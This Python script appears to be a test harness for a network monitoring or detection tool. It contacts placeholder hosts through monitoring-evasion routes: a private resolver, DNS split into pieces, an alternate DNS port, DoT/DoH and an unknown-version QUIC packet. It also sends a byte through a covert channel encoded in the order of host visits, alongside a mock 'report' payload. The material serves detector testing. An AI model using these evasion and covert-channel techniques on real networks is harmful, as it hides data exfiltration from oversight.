"""Reach addresses by ways that some evidence shows badly: a private resolver, DNS in pieces, QUIC, an order of visits."""

import socket
import sys

RESOLVER = "10.200.0.1"


def question(name: str) -> bytes:
    """Return a question for an A record (RFC 1035 section 4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


def address_in(answer: bytes) -> str:
    """Return the address at the end of an answer with one A record."""
    return socket.inet_ntoa(answer[answer.rindex(b"\0\4") + 2 :][:4])


def talk(address: str, port: int, data: bytes = b"report: 3 files, 1 host\n") -> None:
    """Connect, send, read a little."""
    with socket.create_connection((address, port), timeout=5) as sock:
        sock.sendall(data)
        sock.recv(64)


def ask_udp(address: str, port: int, data: bytes) -> None:
    """Send one datagram and wait for any answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(data, (address, port))
        sock.recv(512)


def in_pieces() -> None:
    """Ask the configured resolver over TCP, the question in three segments, then use the answer."""
    asked = question("api.example.com")
    whole = len(asked).to_bytes(2, "big") + asked
    with socket.create_connection((RESOLVER, 53), timeout=5) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in (whole[:1], whole[1:20], whole[20:]):
            sock.sendall(part)
        size = int.from_bytes(sock.recv(2), "big")
        answer = sock.recv(size)
    talk(address_in(answer), 80)


def order() -> None:
    """Tell one byte by the order in which two named hosts are visited."""
    known = {bit: socket.gethostbyname(name) for bit, name in ((0, "api.example.com"), (1, "cdn.example.com"))}
    for bit in (0, 1, 0, 0, 1, 0, 1, 1):
        talk(known[bit], 80, b"GET / HTTP/1.0\r\n\r\n")


WAYS = {
    "other-port": lambda: ask_udp("203.0.113.53", 5353, question("api.example.com")),
    "dot": lambda: talk("9.9.9.9", 853, bytes([22, 3, 1, 0, 5, 1, 0, 0, 1, 3])),
    "doh": lambda: talk("9.9.9.9", 443, bytes([22, 3, 1, 0, 5, 1, 0, 0, 1, 3])),
    # A long header of QUIC with a version that nobody speaks (RFC 9000 section 17.2), padded to 1,200 bytes.
    "quic": lambda: ask_udp("203.0.113.9", 443, (b"\xc0\x5a\x5a\x5a\x5a\x08mcpdtect\x08mcpdtect").ljust(1200, b"\0")),
    "in-pieces": in_pieces,
    "order": order,
}
WAYS[sys.argv[1]]()
